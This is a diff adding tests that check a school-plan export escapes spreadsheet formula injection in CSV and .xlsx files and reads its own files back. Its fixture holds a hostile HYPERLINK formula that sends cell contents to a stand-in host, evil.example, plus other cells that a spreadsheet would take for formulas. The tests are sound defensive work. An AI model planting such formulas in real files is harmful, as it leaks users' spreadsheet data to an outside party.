@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs'
 import { fileURLToPath } from 'node:url'
 import { insertTestPlan } from '@caitien/server/testing'
+import ExcelJS from 'exceljs'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { dbFingerprint } from '../support/cards.ts'
 import { httpSession, startTestServer, type HttpSession } from '../support/http-server.ts'
@@ -349,6 +350,82 @@ describe('exporting a plan', () => {
       expect(b).toEqual(a)
     },
   )
+
+  describe('with text that a spreadsheet would take for a formula', () => {
+    const HOSTILE = {
+      tasks: '- Họp tổ chuyên môn\n- Dự giờ, rút kinh nghiệm',
+      notes: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+      lead: '@Tổ trưởng chuyên môn',
+      weakness: '+Thiếu thiết bị',
+      measures: '-2+3',
+      budget: '-5',
+    }
+    let plan: Awaited<ReturnType<typeof insertTestPlan>>
+
+    beforeAll(async () => {
+      plan = await insertTestPlan(server.db, world.schoolId, '2024-2025')
+      const res = await principal.post(`/api/plans/${plan.id}/cards`, {
+        standard: '1',
+        criterion: '1.2',
+        criterionLabel: 'Tiêu chí 1.2',
+        ...HOSTILE,
+      })
+      expect(res.status).toBe(201)
+    })
+
+    const download = async (format: 'csv' | 'xlsx') => {
+      const res = await fetch(`${server.url}/api/plans/${plan.id}/export?format=${format}`, {
+        headers: { cookie: principal.cookie },
+      })
+      expect(res.status).toBe(200)
+      return new Uint8Array(await res.arrayBuffer())
+    }
+
+    it('neutralises them in CSV with a leading quote, keeps them readable, and reads its own file back', async () => {
+      const bytes = await download('csv')
+      const text = new TextDecoder().decode(bytes)
+      expect(text).toContain(`"'- Họp tổ chuyên môn\n- Dự giờ, rút kinh nghiệm"`)
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Bấm vào đây"")"`)
+      expect(text).toContain(`,'@Tổ trưởng chuyên môn,`)
+      expect(text).toContain(`,'+Thiếu thiết bị,`)
+      expect(text).toContain(`,'-2+3,`)
+      // A plain number is a number, not a formula: left alone.
+      expect(text).toContain(`,-5,`)
+      expect(text).not.toMatch(/,=|"=/)
+
+      const target = await insertTestPlan(server.db, world.schoolId, '2024-2025')
+      const confirm = await upload(principal, target.id, 'confirm', { name: 'export.csv', bytes })
+      expect(confirm.status).toBe(200)
+      const [card] = await cardsOf(target.id)
+      expect(card).toMatchObject(HOSTILE)
+    })
+
+    it('writes them in .xlsx as text cells formatted as Text, shown as typed, and reads them back', async () => {
+      const bytes = await download('xlsx')
+      const wb = new ExcelJS.Workbook()
+      await wb.xlsx.load(bytes.buffer)
+      const sheet = wb.worksheets[0]!
+      const cells: ExcelJS.Cell[] = []
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (Object.values(HOSTILE).includes(cell.value as string)) cells.push(cell)
+        }),
+      )
+      // The budget "-5" is a number in disguise: left as is, like any other cell.
+      const guarded = cells.filter((c) => c.value !== '-5')
+      expect(guarded.map((c) => c.value)).toHaveLength(Object.keys(HOSTILE).length - 1)
+      for (const cell of guarded) {
+        expect(cell.type).toBe(ExcelJS.ValueType.String)
+        expect(cell.numFmt).toBe('@')
+      }
+
+      const target = await insertTestPlan(server.db, world.schoolId, '2024-2025')
+      const confirm = await upload(principal, target.id, 'confirm', { name: 'export.xlsx', bytes })
+      expect(confirm.status).toBe(200)
+      const [card] = await cardsOf(target.id)
+      expect(card).toMatchObject(HOSTILE)
+    })
+  })
 
   it('exports CSV with a BOM, the status and the assignees', async () => {
     const res = await fetch(`${server.url}/api/plans/${world.plan.id}/export?format=csv`, {
